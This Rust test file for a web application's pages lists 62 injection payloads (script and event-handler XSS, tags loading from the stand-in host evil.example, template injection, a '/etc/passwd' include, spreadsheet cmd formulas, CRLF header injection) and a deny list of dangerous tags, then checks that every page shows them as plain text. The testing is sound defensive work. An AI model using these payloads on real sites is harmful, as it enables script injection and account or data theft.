//! Attack: words that become markup, script or something else than words, wherever a page shows what somebody wrote.

use std::collections::BTreeSet;

use axum::http::StatusCode;
use selvedge_model::people::Role;

use super::Visitor;
use crate::pages::sample::{ADMIN, Fate, brand, empty, order, person, place, start};

/// What people have broken pages with.
const NAUGHTY: [&str; 62] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror=\"alert(1)\"",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<form action=//evil.example><input name=p>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<!--<img src=\"--><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><x/>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr\tipt>alert(1)</scr\tipt>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=alert(1) x=\"",
    "` onmouseover=`alert(1)",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;&quot;&#39;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3e",
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "{% include '/etc/passwd' %}",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u{202e}evil\u{202d}",
    "\u{200b}\u{200d}\u{feff}",
    "Ｚ̴̡͍͙a̷͓l̶̟g̵̰o̸͉ <b>bold</b>",
    "漢字かな交じり文 <i>x</i> 🎁👩‍👩‍👧",
    "مرحبا <u>بالعالم</u>",
    "line one\r\nSet-Cookie: x=1\r\n\r\n<script>alert(1)</script>",
    "null\0<script>alert(1)</script>",
];

/// Names of elements and of attributes that stand in a page, read as a browser reads them.
fn markup(page: &str) -> (BTreeSet<String>, BTreeSet<String>) {
    let (mut elements, mut attributes) = (BTreeSet::new(), BTreeSet::new());
    let mut rest = page;
    while let Some(at) = rest.find('<') {
        rest = &rest[at + 1..];
        if !rest.starts_with(|c: char| c.is_ascii_alphabetic() || c == '/' || c == '!' || c == '?') {
            continue;
        }
        let end = rest.find(|c: char| c.is_whitespace() || c == '>').unwrap_or(rest.len());
        elements.insert(rest[..end].trim_start_matches('/').to_ascii_lowercase());
        rest = &rest[end..];
        // Attributes, up to the end of the tag; what stands in quotes is a value, and has no end of a tag in it.
        loop {
            rest = rest.trim_start();
            if let Some(after) = rest.strip_prefix('>') {
                rest = after;
                break;
            }
            if rest.is_empty() {
                break;
            }
            let end = rest.find(|c: char| c == '=' || c == '>' || c.is_whitespace()).unwrap_or(rest.len());
            attributes.insert(rest[..end].to_ascii_lowercase());
            rest = &rest[end..];
            if let Some(value) = rest.strip_prefix("=\"") {
                let close =
                    value.find('"').unwrap_or_else(|| panic!("a quote that does not close: {}", &value[..value.len().min(80)]));
                rest = &value[close + 1..];
            } else if rest.starts_with('=') {
                panic!("a value without quotes: {}", &rest[..rest.len().min(80)]);
            }
        }
    }
    (elements, attributes)
}

/// Nothing in a page is markup of somebody else's.
fn only_ours(page: &str, place: &str) {
    const NEVER: [&str; 16] = [
        "iframe", "object", "embed", "base", "style", "img", "video", "math", "body2", "marquee", "animate", "source", "mglyph",
        "b<", "?xml", "![cdata[",
    ];
    let (elements, attributes) = markup(page);
    for element in &elements {
        assert!(!NEVER.contains(&element.as_str()), "{place} has an element {element}");
        assert!(element.chars().all(|c| c.is_ascii_alphanumeric() || c == '!'), "{place} has an element {element:?}");
    }
    for attribute in &attributes {
        assert!(!attribute.starts_with("on"), "{place} has an attribute {attribute}");
        assert!(attribute.chars().all(|c| c.is_ascii_alphanumeric() || c == '-'), "{place} has an attribute {attribute:?}");
        assert!(!["style", "srcdoc", "formaction"].contains(&attribute.as_str()), "{place} has an attribute {attribute}");
    }
    let ours = page.matches("<script src=\"/assets/").count();
    assert!(page.matches("<script").count() == ours && ours <= 3, "{place}");
    assert!(!page.contains("href=\"javascript:") && !page.contains("href=\"data:"), "{place}");
    assert!(!page.contains("evil.example\"") && !page.contains("href=\"//"), "{place}");
}

#[test]
fn the_reader_of_markup_sees_what_a_browser_sees() {
    let (elements, attributes) = markup("<p class=\"a>b\" hidden>x &lt;b&gt; <a href=\"x\">y</a> 1 < 2</p>");
    assert_eq!(elements.into_iter().collect::<Vec<_>>(), ["a", "p"]);
    assert_eq!(attributes.into_iter().collect::<Vec<_>>(), ["class", "hidden", "href"]);
    let broken = std::panic::catch_unwind(|| only_ours("<p><img src=\"x\" onerror=\"alert(1)\"></p>", "x"));
    assert!(broken.is_err());
    assert!(std::panic::catch_unwind(|| only_ours("<input value=\"\" onfocus=\"x\">", "x")).is_err());
}

#[tokio::test]
async fn what_somebody_writes_stays_words_on_every_page() {
    let (app, _) = empty().await;
    let admin = Visitor::signed_in(&app, ADMIN, &[Role::Admin]).await;
    for (number, naughty) in NAUGHTY.iter().enumerate() {
        // What a shopper writes, and what a system calls things.
        let mut theirs = order(&format!("9{number:03}"), naughty, 1);
        theirs.comment = Some((*naughty).to_owned());
        theirs.market.name = (*naughty).to_owned();
        let fate = if number % 2 == 0 { Fate::Captured } else { Fate::Unmapped };
        place(&app, theirs, start(), fate).await;
        let text = (*naughty).to_owned();
        let exception = app
            .store
            .write(move |tx| {
                tx.map(&brand(), &"books".into(), "item", &format!("sku={text}"), Some(&text), &text, start())?;
                let problem = selvedge_model::Problem::new("mapping.item", &text, &text, &text).cause(&text);
                tx.raise_standing(&brand(), &"orders".into(), &problem, start())
            })
            .await
            .unwrap();
        // What a person types: taken or refused, and shown again either way.
        let mail = format!("p{number}@example.com");
        let invited = admin.post(&app, "/people", &[("name", naughty), ("email", &mail), ("viewer", "on")]).await;
        only_ours(&invited.text, &format!("the invitation of {naughty}"));
        let of = person(&app, &mail, &[Role::Operator]).await;
        for (path, fields) in [
            (format!("/exceptions/{exception}/comment"), vec![("text", *naughty)]),
            (format!("/exceptions/{exception}/assign"), vec![("team", "finance"), ("person", *naughty), ("note", *naughty)]),
            (format!("/exceptions/{exception}/snooze"), vec![("until", "4h"), ("reason", *naughty)]),
            (format!("/exceptions/{exception}/snooze"), vec![("until", *naughty), ("reason", *naughty)]),
            (format!("/exceptions/{exception}/wake"), vec![]),
            (format!("/exceptions/{exception}/edit"), vec![("obligation", *naughty), ("reason", *naughty), (*naughty, *naughty)]),
            ("/handbook/daily/2026-02-03/tick".to_owned(), vec![("item", "late"), ("note", *naughty)]),
            ("/handbook/daily/2026-02-03/tick".to_owned(), vec![("item", *naughty), ("note", *naughty)]),
            (format!("/alerts/{}/acknowledge", "alr_1"), vec![]),
            (format!("/exceptions/{exception}/dismiss"), vec![("reason", *naughty), ("records", "9")]),
            (
                format!("/exceptions/{exception}/map"),
                vec![("connection", *naughty), ("table", *naughty), ("key", *naughty), ("value", *naughty)],
            ),
            ("/mappings".to_owned(), vec![("connection", "books"), ("table", "item"), ("key", *naughty), ("value", *naughty)]),
            ("/mappings".to_owned(), vec![("connection", *naughty), ("table", *naughty), ("key", *naughty), ("value", *naughty)]),
            (format!("/exceptions/{exception}/map"), vec![("value", *naughty), ("how", "preview")]),
            ("/mappings/import".to_owned(), vec![("csv", *naughty)]),
            ("/mappings/import/apply".to_owned(), vec![("csv", *naughty), ("shown", *naughty)]),
            ("/flows/orders/pause".to_owned(), vec![("reason", *naughty)]),
            ("/flows/orders/replay".to_owned(), vec![("since", *naughty), ("csv", *naughty)]),
            ("/flows/orders/redeliver".to_owned(), vec![("since", *naughty), ("records", "1")]),
            ("/flows/orders/sweep".to_owned(), vec![("since", *naughty)]),
            ("/flows/orders/resume".to_owned(), vec![("reason", *naughty)]),
            ("/people".to_owned(), vec![("name", *naughty), ("email", *naughty), (*naughty, *naughty)]),
            ("/account/tokens".to_owned(), vec![("name", *naughty), ("days", "7"), ("read", "on")]),
            ("/login".to_owned(), vec![("email", *naughty), ("password", *naughty), ("to", *naughty)]),
            ("/approvals/apr_1/reject".to_owned(), vec![("reason", *naughty)]),
            (format!("/people/{of}/roles"), vec![(*naughty, "on"), ("operator", "on")]),
        ] {
            let got = admin.post(&app, &path, &fields).await;
            assert!(got.status.as_u16() < 500, "{path} {naughty}: {}", got.status);
            assert!(!got.header("set-cookie").contains("x=1"), "{path} {naughty}");
            only_ours(&got.text, &format!("{path} after {naughty}"));
        }
        let part: String = naughty.bytes().map(|byte| format!("%{byte:02X}")).collect();
        for path in [
            format!("/orders/9{number:03}"),
            format!("/orders/{part}"),
            format!("/orders?search={part}"),
            format!("/returns?search={part}"),
            format!("/returns/{part}"),
            format!("/stock?search={part}"),
            format!("/stock/items/{part}"),
            format!("/exceptions/{exception}"),
            format!("/exceptions/{part}"),
            format!("/exceptions?team={part}"),
            format!("/exceptions?text={part}&person={part}&flow={part}&connection={part}"),
            format!("/exceptions/{exception}?done={part}&edit={part}&preview=yes&value={part}&connection={part}"),
            format!("/flows/{part}"),
            format!("/flows/orders?since={part}&done={part}"),
            format!("/flows/orders/replay?since={part}"),
            format!("/mappings?connection={part}&table={part}&search={part}&edit={part}&imported={part}"),
            format!("/mappings/history?connection={part}&table={part}&key={part}&before={part}"),
            format!("/stock/rehearse?interval={part}&buffer={part}"),
            format!("/alerts/ack/{part}"),
            format!("/handbook/{part}/{part}"),
            format!("/handbook/daily/2026-02-03?done={part}"),
            format!("/reconcile/differences?pair={part}&order={part}"),
            format!("/people/{of}"),
            format!("/people/{part}"),
            format!("/approvals?asked={part}&approved={part}"),
            format!("/account?did={part}"),
            format!("/login?to={part}"),
            format!("/setup/{part}"),
            format!("/invitation/{part}"),
            format!("/{part}"),
        ] {
            let got = admin.get(&app, &path).await;
            assert!(got.status.as_u16() < 500, "{path}: {}", got.status);
            only_ours(&got.text, &path);
            let api = admin.get(&app, &format!("/api{path}")).await;
            assert!(!api.header("content-type").starts_with("text/html"), "{path}: {}", api.header("content-type"));
        }
        let browser = admin.clone().header("user-agent", naughty.replace(|c: char| c.is_control(), " "));
        assert_eq!(browser.get(&app, "/account").await.status, StatusCode::OK);
    }
    // All of it at once, on every list.
    for path in [
        "/",
        "/orders",
        "/exceptions",
        "/exceptions?shelf=snoozed",
        "/exceptions?shelf=closed",
        "/alerts",
        "/handbook",
        "/handbook/daily/2026-02-03",
        "/mappings",
        "/mappings/history",
        "/flows",
        "/flows/orders",
        "/connections",
        "/settings",
        "/people",
        "/account",
        "/approvals",
        "/returns",
        "/stock",
        "/reconcile",
    ] {
        let got = admin.get(&app, path).await;
        assert_eq!(got.status, StatusCode::OK, "{path}");
        only_ours(&got.text, path);
    }
    let people = admin.get(&app, "/people").await.text;
    assert!(people.contains("&lt;script&gt;alert(1)&lt;/script&gt;"), "it is shown, as words");
    assert!(people.contains("{{7*7}}") && !people.contains(">49<"), "and nothing is worked out");
    assert!(!people.contains('\u{202e}') && !people.contains("null\0"), "names that cannot be seen were refused");
}
